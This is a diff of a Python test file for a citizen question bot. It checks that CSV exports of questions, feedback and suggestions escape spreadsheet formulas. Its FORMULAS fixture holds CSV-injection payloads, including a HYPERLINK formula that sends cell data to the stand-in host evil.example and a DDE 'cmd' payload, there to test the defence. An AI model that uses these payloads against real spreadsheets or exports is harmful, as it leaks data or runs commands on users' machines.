@@ -16,12 +16,20 @@ from bot.commands.tables import render_csv, render_table, since_argument, width,
 from knowledge.normalise import normalise
 from storage import db
 from storage.audit import AuditKind, AuditLog
+from storage.citizens import CitizenRepository
+from storage.feedback import FeedbackKind, FeedbackRepository
 from storage.knowledge import KnowledgeRepository
 from storage.questions import QuestionRepository
 from storage.suggestions import SuggestionRepository
+from tests.handlers.conftest import small_kb
 from tests.storage.feedback_seed import MISSING, seed
 
 Capture = pytest.CaptureFixture[str]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1",
+    "\r=1+1", " =1+1", "  @SUM(A1)", "\n-2+3",
+]
+"""What a citizen may type that a spreadsheet runs: OWASP's first characters, also behind spaces."""
 
 
 @pytest.fixture(autouse=True)
@@ -49,6 +57,36 @@ def picked(url: str, text: str, entry_id: str) -> None:
                 candidates=[], signals={},
             )  # fmt: skip
             await SuggestionRepository(session).record_pick(text, entry_id)
+
+    asyncio.run(go())
+
+
+def unanswered(url: str, text: str) -> None:
+    """A citizen asked ``text`` and the bot found nothing good."""
+
+    async def go() -> None:
+        async with db.connected(url) as engine, db.sessionmaker(engine).begin() as session:
+            await QuestionRepository(session).record_question(
+                None, text, normalised=normalise(text), language="en", decision="none", reason="test",
+                candidates=[], signals={},
+            )  # fmt: skip
+
+    asyncio.run(go())
+
+
+def missing(url: str, text: str) -> None:
+    """A citizen was shown ``id-card-renew`` and said ``text`` was missing from it."""
+
+    async def go() -> None:
+        async with db.connected(url) as engine, db.sessionmaker(engine).begin() as session:
+            await KnowledgeRepository(session).apply_import(small_kb(), "test")
+            citizen = await CitizenRepository(session).get_or_create("test", "1")
+            answer = await QuestionRepository(session).record_answer(
+                citizen.id, "id-card-renew", how="matched", score=0.9
+            )
+            await FeedbackRepository(session).add(
+                citizen.id, FeedbackKind.MISSING, text, language="en", answer_id=answer
+            )
 
     asyncio.run(go())
 
@@ -152,12 +190,59 @@ def test_feedback_report_marks_an_entry_deleted_since(database: str, capsys: Cap
     assert "(deleted) How do I pay my property tax?" in capsys.readouterr().out
 
 
-@pytest.mark.parametrize(
-    "typed", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\t=1"]
-)
+@pytest.mark.parametrize("typed", FORMULAS)
 def test_csv_cells_a_citizen_typed_are_never_formulas_to_a_spreadsheet(typed: str) -> None:
     _, row = list(csv.reader(io.StringIO(render_csv(["question", "count"], [(typed, -3)]), newline="")))
     assert row == ["'" + typed, "-3"]  # text kept whole behind the quote; numbers stay numbers
+
+
+def test_csv_numbers_we_wrote_stay_numbers_and_text_is_always_quoted() -> None:
+    # Quoted, a citizen's "a;=1+1" stays one cell where the spreadsheet's list separator is ";".
+    text = render_csv(["question", "delta", "rate", "missing"], [("a;=1+1", -3, -0.25, None)])
+    assert text.splitlines()[1] == '"a;=1+1",-3,-0.25,""'
+
+
+def test_csv_a_carriage_return_inside_a_citizens_text_starts_no_row_of_its_own() -> None:
+    rows = list(csv.reader(io.StringIO(render_csv(["question"], [("thanks\r=1+1",)]), newline="")))
+    assert rows == [["question"], ["thanks\r=1+1"]]
+
+
+def test_csv_text_that_already_begins_with_a_quote_gets_one_more() -> None:
+    # So that the cell minus one leading quote is always what was written (kb import relies on it).
+    rows = list(csv.reader(io.StringIO(render_csv(["question"], [("'=1+1",), ("'Tis",)]), newline="")))
+    assert rows[1:] == [["''=1+1"], ["'Tis"]]  # a quote before anything harmless needs none
+
+
+@pytest.mark.parametrize("typed", FORMULAS)
+def test_an_unanswered_question_comes_out_as_text_in_the_csv(
+    database: str, capsys: Capture, typed: str
+) -> None:
+    unanswered(database, typed)
+    assert main(["report", "unanswered", "--format", "csv"]) == 0
+    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
+    stored = typed.strip()  # questions are kept without the spaces around them
+    assert (row["question"], row["examples"]) == ("'" + stored, "'" + stored)
+
+
+@pytest.mark.parametrize("typed", FORMULAS)
+def test_what_a_citizen_said_was_missing_comes_out_as_text_in_the_feedback_csv(
+    database: str, capsys: Capture, typed: str
+) -> None:
+    missing(database, typed)
+    assert main(["report", "feedback", "--format", "csv"]) == 0
+    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
+    assert (row["entry_id"], row["examples"]) == ("id-card-renew", "'" + typed)
+
+
+@pytest.mark.parametrize("typed", FORMULAS)
+def test_a_suggested_phrasing_comes_out_as_text_in_the_suggestions_csv(
+    database: str, capsys: Capture, typed: str
+) -> None:
+    seeded(database)
+    picked(database, typed, "id-card-lost")
+    assert main(["kb", "suggestions", "--format", "csv"]) == 0
+    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
+    assert (row["text"], row["times_chosen"]) == ("'" + typed.strip(), "1")  # kept as its question is
 
 
 def test_every_listing_of_citizens_words_is_an_export_in_the_audit_log(database: str) -> None:
